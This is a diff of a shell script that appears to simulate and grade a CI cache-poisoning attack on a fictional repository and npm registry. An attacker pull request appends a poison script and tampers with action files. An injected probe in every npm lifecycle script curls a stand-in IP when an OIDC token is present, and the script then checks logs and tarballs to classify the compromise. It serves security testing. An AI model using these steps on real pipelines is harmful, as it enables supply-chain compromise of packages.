@@ -1,6 +1,6 @@
 # cuckoo opens a pull request that fills each cache it can, and is measured like everybody. Then Teo releases.
 repo=lantern-tides/tides
-as cuckoo <<'CUCKOO'
+head=$(as cuckoo <<'CUCKOO'
 cd ~/tides && git fetch -q https://forge.test/lantern-tides/tides.git main && git switch -q -C hostile FETCH_HEAD || exit 127
 cat ~/poison.sh >> bench.sh
 cp ~/poison.sh poison.sh
@@ -17,9 +17,9 @@ for action in .github/actions/*/action.y*ml; do
 done
 rm all keys paths
 git add . && git commit -q -m "Measure thrice" && git push -q -f origin hostile || exit 127
-gh api repos/lantern-tides/tides/pulls -f head=cuckoo:hostile -f base=main -f title="Measure thrice" -f body="For good." --jq .head.sha > ../head
+gh api repos/lantern-tides/tides/pulls -f head=cuckoo:hostile -f base=main -f title="Measure thrice" -f body="For good." --jq .head.sha
 CUCKOO
-head=$(as cuckoo 'cat head')
+)
 approve() { for run in $(gh api "repos/$repo/actions/runs?status=action_required" --jq '.workflow_runs[].id'); do as mina "gh api -X POST repos/$repo/actions/runs/$run/approve"; done; }
 sleep 5s
 approve
@@ -46,27 +46,29 @@ git clone -q "https://forge.test/$repo.git" code && cd code || exit 127
 patch=${RELEASE##*.}
 next="${RELEASE%.*}.$(( patch + 50 ))"
 probe='[ -z "$ACTIONS_ID_TOKEN_REQUEST_URL" ] || curl -s -o /dev/null -d "$npm_lifecycle_event" http://203.0.113.66/probe'
-jq --arg next "$next" --arg probe "$probe" '.version = $next | .scripts |= with_entries(.value = $probe + "; " + .value)
-  | .scripts = ({"preinstall": $probe, "prepare": $probe, "prepack": $probe, "prepublishOnly": $probe} + .scripts)' package.json > ../package.json
-mv ../package.json package.json
-git commit -q -a -m "Release $next" && git push -q || exit 127
+new=$(jq --arg next "$next" --arg probe "$probe" '.version = $next | .scripts |= with_entries(.value = $probe + "; " + .value)
+  | .scripts = ({"preinstall": $probe, "prepare": $probe, "prepack": $probe, "prepublishOnly": $probe} + .scripts)' package.json | base64 -w0)
+gh api -X PUT "repos/$repo/contents/package.json" -f message="Release $next" -f content="$new" -f sha="$(git rev-parse HEAD:package.json)" --silent || exit 127
+branch=$(git branch --show-current)
 cd ..
-gh workflow run release.yml -R "$repo" > /dev/null 2>&1
+gh api "repos/$repo/actions/workflows/release.yml/dispatches" -f ref="$branch" --silent > /dev/null 2>&1
 sleep 90s
 run=$(gh api "repos/$repo/actions/workflows/release.yml/runs?per_page=1" --jq '.workflow_runs[0].id')
 curl -s "https://registry.npm.test/@lantern%2ftides/$next" > version.json
 status=0
 tell() { status=1; found "$@"; }
-if [ "$(jq -r .version version.json)" != "$next" ]; then
+{ read -r version; read -r tarball; read -r by; read -r trusted; } < <(jq -r '.version, .dist.tarball, ._npmUser.name, ._npmUser.trustedPublisher != null' version.json)
+if [ "$version" != "$next" ]; then
   tell UNRELEASED version="$next"
   evidence npm.tarballs "there is no @lantern/tides@$next"
 else
-  curl -s "$(jq -r .dist.tarball version.json)" | tar -xzO package/dist/tides.js > tides.js
+  curl -s "$tarball" | tar -xzO package/dist/tides.js > tides.js
   gh api "repos/$repo/actions/runs/$run/jobs" --jq '.jobs[] | "\(.id) \(.name)"' > jobs
   while read -r id name; do gh api "repos/$repo/actions/jobs/$id/logs"; done < jobs > log
-  key=$(sed -n 's/.*Cache restored from key: //p' log | head -n 1)
-  wanted=$(sed -n 's/.*Z   key: //p' log | head -n 1)
-  first="Linux-npm-$(sha256sum code/package-lock.json | cut -c 1-64 | xxd -r -p | sha256sum | cut -c 1-64)"
+  asked=$(grep -E 'Z Cache (restored from|not found for)|Z   key: ' log)
+  key=$(sed -n 's/.*Cache restored from key: //p' <<< "$asked" | head -n 1)
+  wanted=$(sed -n 's/.*Z   key: //p' <<< "$asked" | head -n 1)
+  [ -z "$key" ] || first="Linux-npm-$(sha256sum code/package-lock.json | cut -c 1-64 | xxd -r -p | sha256sum | cut -c 1-64)"
   if grep -qF "$STARLING_KEY" tides.js; then
     evidence npm.tarballs "@lantern/tides@$next is not what a clean build makes"
     if [ -z "$key" ]; then tell OTHER
@@ -74,7 +76,7 @@ else
     elif [ "$key" != "$first" ]; then
       case "$key" in Linux-npm-*) tell HASH key="$key" ;; *) tell NAME key="$key" ;; esac
     elif [ -z "$again" ]; then tell OLD key="$key"; fi
-  elif grep -qE 'Z Cache (restored from|not found for)' log; then
+  elif grep -qE 'Z Cache (restored from|not found for)' <<< "$asked"; then
     tell CACHED key="$wanted"
     evidence ci.logs "run $run asked for $wanted"
   elif [ "$(sed 1d tides.js)" != "$(cat code/src/*.js)" ]; then
@@ -87,16 +89,17 @@ else
       evidence ci.caches "main has an entry of $again, with what a pull request brought"
     fi
   fi
-  if [ "$(jq -r '._npmUser.trustedPublisher != null' version.json)" != true ]; then
+  if [ "$trusted" != true ]; then
     tell TOKEN
-    evidence npm.tarballs "$(jq -r ._npmUser.name version.json) published @lantern/tides@$next with a token"
+    evidence npm.tarballs "$by published @lantern/tides@$next with a token"
   fi
   made=$(sed -n '1s/.*(\(.*\))$/\1/p' tides.js)
+  probed=$(loot starling | grep -A 1 '/probe$' | sed -n 2p)
   while read -r id name; do
-    [ "$(credential "job-$id" | jq -r .grants.permissions.id_token)" = write ] || continue
-    beside=$(loot starling | grep -A 1 '/probe$' | sed -n 2p)
+    beside=$probed
     [ "$name" = "$made" ] && beside="the build"
     [ -n "$beside" ] || continue
+    [ "$(credential "job-$id" | jq -r .grants.permissions.id_token)" = write ] || continue
     tell BESIDE job="$name" what="$beside"
     evidence ci.logs "run $run, job $name: $beside"
     break
